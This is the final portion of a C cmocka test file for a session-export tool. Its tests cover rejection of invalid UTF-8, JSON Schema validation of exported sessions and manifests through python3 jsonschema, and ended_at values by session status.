/* Bytes that are not UTF-8 cannot go into JSON: a clear failure, no leak,
 * and no bundle. */
static void test_invalid_utf8(void **state)
{
	session_record s[2];
	char *dir = temp_dir(), err[512] = "";

	(void)state;
	make_sessions(s, 2);
	session_set_string(&s[0].answers[0].answer, "caf\xc3 \xff");
	assert_null(export_session_json(&s[0]));
	assert_null(export_sessions_csv(s, 2));
	assert_int_equal(export_bundle(dir, "berlin-01", s, 2, NOW_MS, NULL, 0,
	                               err, sizeof err), -1);
	assert_non_null(strstr(err, s[0].id));
	assert_non_null(strstr(err, dir));
	assert_int_equal(count_entries(dir), 0);
	/* The name too, and a contact value. */
	session_set_string(&s[0].answers[0].answer, "ok");
	session_set_string(&s[0].name, "\xc0\x80");
	assert_null(export_session_json(&s[0]));
	session_set_string(&s[0].name, "ok");
	session_set_string(&s[0].contacts[0].value, "\xed\xa0\x80");
	assert_null(export_session_json(&s[0]));
	for (int i = 0; i < 2; i++)
		session_clear(&s[i]);
	rm_tree(dir);
	free(dir);
}

/* The published schemas accept what we emit (when python3-jsonschema is
 * installed; the standalone checker covers the rest without it). */
static void test_schemas(void **state)
{
	session_record s[4];
	char *dir = temp_dir(), err[512] = "", out[4096], cmd[16384];
	int rc;

	(void)state;
	if (system("python3 -c 'import jsonschema' 2>/dev/null") != 0) {
		rm_tree(dir);
		free(dir);
		skip();
	}
	make_sessions(s, 4);
	assert_int_equal(export_bundle(dir, "berlin-01", s, 4, NOW_MS, out, sizeof out,
	                               err, sizeof err), 0);
	JOIN(cmd, "python3 -c '"
	     "import json, glob, sys, jsonschema\n"
	     "def load(p): return json.load(open(p, encoding=\"utf-8\"))\n"
	     "S = \"%s/schema/prescreen.%%s.v1.schema.json\"\n"
	     "for name in (\"session\", \"manifest\"):\n"
	     "    jsonschema.Draft202012Validator.check_schema(load(S %% name))\n"
	     "v = jsonschema.Draft202012Validator(load(S %% \"session\"))\n"
	     "for p in glob.glob(\"%s/sessions/*.json\"): v.validate(load(p))\n"
	     "jsonschema.validate(load(\"%s/manifest.json\"), load(S %% \"manifest\"),\n"
	     "    cls=jsonschema.Draft202012Validator)\n"
	     "'", TEST_SOURCE_DIR, out, out);
	rc = system(cmd);
	assert_int_equal(rc, 0);
	for (int i = 0; i < 4; i++)
		session_clear(&s[i]);
	rm_tree(dir);
	free(dir);
}

/* 0 when the published session schema accepts the file at path. */
static int schema_check(const char *path)
{
	char cmd[8192];
	int rc;

	JOIN(cmd, "python3 -c '"
	     "import json, sys, jsonschema\n"
	     "S = json.load(open(\"%s/schema/prescreen.session.v1.schema.json\"))\n"
	     "v = jsonschema.Draft202012Validator(S)\n"
	     "sys.exit(0 if v.is_valid(json.load(open(sys.argv[1]))) else 1)\n"
	     "' '%s'", TEST_SOURCE_DIR, path);
	rc = system(cmd);
	return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

/* ended_at for each status, as the schema says: a time for completed and
 * abandoned, a time or null for interrupted (stopped, or died without
 * warning), null in progress; 0 is written as null. */
static void test_ended_at_by_status(void **state)
{
	static const struct {
		session_status st;
		bool ended;
		bool valid;
	} cases[] = {
		{ SESSION_COMPLETED, true, true }, { SESSION_ABANDONED, true, true },
		{ SESSION_INTERRUPTED, true, true }, { SESSION_INTERRUPTED, false, true },
		{ SESSION_IN_PROGRESS, false, true },
		{ SESSION_COMPLETED, false, false }, { SESSION_ABANDONED, false, false },
		{ SESSION_IN_PROGRESS, true, false },
	};
	bool schema = system("python3 -c 'import jsonschema' 2>/dev/null") == 0;
	char *dir = temp_dir(), path[4096];
	session_record s;

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		json_t *root, *ended;
		char *text;
		FILE *f;
		fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", cases[i].st, 2);
		s.ended_at = cases[i].ended ? at("2026-11-29T10:24:40Z") : 0;
		text = export_session_json(&s);
		assert_non_null(text);
		root = json_loads(text, 0, NULL);
		ended = json_object_get(root, "ended_at");
		if (cases[i].ended)
			assert_string_equal(json_string_value(ended), "2026-11-29T10:24:40Z");
		else
			assert_true(json_is_null(ended));
		json_decref(root);
		if (schema) {
			JOIN(path, "%s/s%zu.json", dir, i);
			assert_non_null(f = fopen(path, "w"));
			fputs(text, f);
			fclose(f);
			if ((schema_check(path) == 0) != cases[i].valid)
				fail_msg("case %zu (%s, ended %d): the schema %s it", i,
				         session_status_name(cases[i].st), cases[i].ended,
				         cases[i].valid ? "rejects" : "accepts");
		}
		free(text);
		session_clear(&s);
	}
	rm_tree(dir);
	free(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_session_json),
		cmocka_unit_test(test_json_as_jansson_writes_it),
		cmocka_unit_test(test_time_and_status),
		cmocka_unit_test(test_csv_round_trip),
		cmocka_unit_test(test_csv_header_fixed),
		cmocka_unit_test(test_csv_formulas),
		cmocka_unit_test(test_bundle),
		cmocka_unit_test(test_revision_orders_exports),
		cmocka_unit_test(test_bundle_mixed_events),
		cmocka_unit_test(test_collision_and_name),
		cmocka_unit_test(test_unwritable),
		cmocka_unit_test(test_write_fails_midway),
		cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_schemas),
		cmocka_unit_test(test_ended_at_by_status),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
